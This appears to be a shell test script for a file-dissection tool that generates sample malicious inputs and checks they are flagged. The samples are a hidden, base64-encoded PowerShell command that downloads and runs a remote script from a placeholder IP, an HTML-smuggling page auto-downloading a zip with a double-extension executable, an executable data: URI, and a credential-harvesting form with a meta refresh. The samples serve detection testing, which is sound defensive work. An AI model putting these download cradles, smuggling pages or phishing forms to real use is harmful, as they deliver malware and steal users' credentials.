# Script/HTML dissector: PowerShell -EncodedCommand payloads, HTML smuggling
# (atob + Blob + download) with the smuggled archive expanded, base64 data:
# URIs, credential forms, meta refresh; expected payloads from Python's
# base64 and UTF-16 codecs on inputs written at test time.
# SPDX-License-Identifier: Apache-2.0
. "$ART_SOURCE_DIR/tests/cli/lib.sh"
need jq /usr/bin/python3
S=$ART_BIN/art-surface
export XDG_CACHE_HOME=$T/cache
/usr/bin/python3 - "$T" <<'PY'
import base64, hashlib, io, sys, zipfile
t = sys.argv[1]
ps = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.3/a.ps1')"
enc = base64.b64encode(ps.encode("utf-16le")).decode()
open(t + "/run.cmd", "w").write("@echo off\r\npowershell.exe -NoP -W Hidden -enc %s\r\n" % enc)
open(t + "/run2.ps1", "w").write("Start-Process pwsh -ArgumentList '-EncodedCommand %s'\n" % enc)
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as z:
    z.writestr("Invoice.pdf.exe", b"MZ\x90\x00" + b"\x00" * 200)
blob = base64.b64encode(zb.getvalue()).decode()
open(t + "/smuggle.html", "w").write(
    "<!DOCTYPE html><html><body><script>\n"
    "var d = '%s';\n"
    "var b = new Blob([Uint8Array.from(atob(d), c => c.charCodeAt(0))]);\n"
    "var a = document.createElement('a'); a.href = URL.createObjectURL(b);\n"
    "a.download = 'invoice.zip'; a.click();\n"
    "</script></body></html>\n" % blob)
exe = base64.b64encode(b"MZ" + bytes(range(256))).decode()
open(t + "/datauri.html", "w").write(
    '<html><a href="data:application/octet-stream;base64,%s" download="x.exe">get</a></html>\n' % exe)
open(t + "/phish.html", "w").write(
    '<html><head><meta http-equiv="refresh" content="5; url=https://login.example.net/next"></head>'
    '<body><form method="post" action="https://collect.example.net/p.php">'
    '<input name="u"><input type="password" name="p"></form></body></html>\n')
open(t + "/plain.html", "w").write("<html><body><p>Hello <a href='https://example.org/'>there</a></p></body></html>\n")
with open(t + "/ref.tsv", "w") as f:
    f.write("run.cmd\tpowershell-encoded\t%s\n" % hashlib.sha256(ps.encode()).hexdigest())
    f.write("run2.ps1\tpowershell-encoded\t%s\n" % hashlib.sha256(ps.encode()).hexdigest())
    f.write("smuggle.html\tbase64\t%s\n" % hashlib.sha256(zb.getvalue()).hexdigest())
    f.write("datauri.html\tdata-uri\t%s\n" % hashlib.sha256(b"MZ" + bytes(range(256))).hexdigest())
PY
"$S" --no-yara "$T"/run.cmd "$T"/run2.ps1 "$T"/smuggle.html "$T"/datauri.html "$T"/phish.html "$T"/plain.html >"$T/our.jsonl"
jq -r 'select(.lineage.dissector == "script") | "\(.lineage.root | split("/") | last)\t\(.lineage.via)\t\(.hashes.sha256)"' \
  "$T/our.jsonl" | sort >"$T/ours.tsv"
sort "$T/ref.tsv" >"$T/ref.sorted"
if diff "$T/ref.sorted" "$T/ours.tsv" >"$T/diff"; then
  ok "decoded payloads as Python's base64/UTF-16 give them (4 children)"
else
  fail "decoded payloads differ:"; cat "$T/diff" >&2
fi
flags() { jq -r "select(.lineage.id == 0 and (.path | endswith(\"/$1\"))) | .flags | join(\",\")" "$T/our.jsonl"; }
check "run.cmd: encoded command flagged" test "$(flags run.cmd)" = powershell_encoded_command
check "the decoded command's URL is an indicator of the child" \
  test "$(jq -r 'select(.lineage.via == "powershell-encoded" and (.path | contains("run.cmd"))) | .strings.iocs | map(.value) | join(",")' "$T/our.jsonl")" = "http://198.51.100.3/a.ps1"
check "smuggle.html: HTML smuggling flagged" test "$(flags smuggle.html)" = html_smuggling
check "the smuggled zip is expanded: its member carries a double extension flag" \
  test "$(jq -r 'select(.path | endswith("smuggle.html!base64-1.bin!Invoice.pdf.exe")) | "\(.lineage.via) \(.flags | join(","))"' "$T/our.jsonl")" = "member double_extension"
check "datauri.html: executable data: URI is smuggling" test "$(flags datauri.html)" = html_smuggling
check "phish.html: meta refresh and a credential form posting elsewhere" \
  test "$(flags phish.html)" = "meta_refresh,form_posts_credentials"
check "phish.html: refresh target" \
  test "$(jq -r 'select(.lineage.id == 0 and (.path | endswith("phish.html"))) | .script.meta_refresh' "$T/our.jsonl")" = "https://login.example.net/next"
check "plain.html: dissected, nothing flagged, no children" \
  test "$(flags plain.html):$(jq -s 'map(select(.path | contains("plain.html!"))) | length' "$T/our.jsonl")" = ":0"
finish
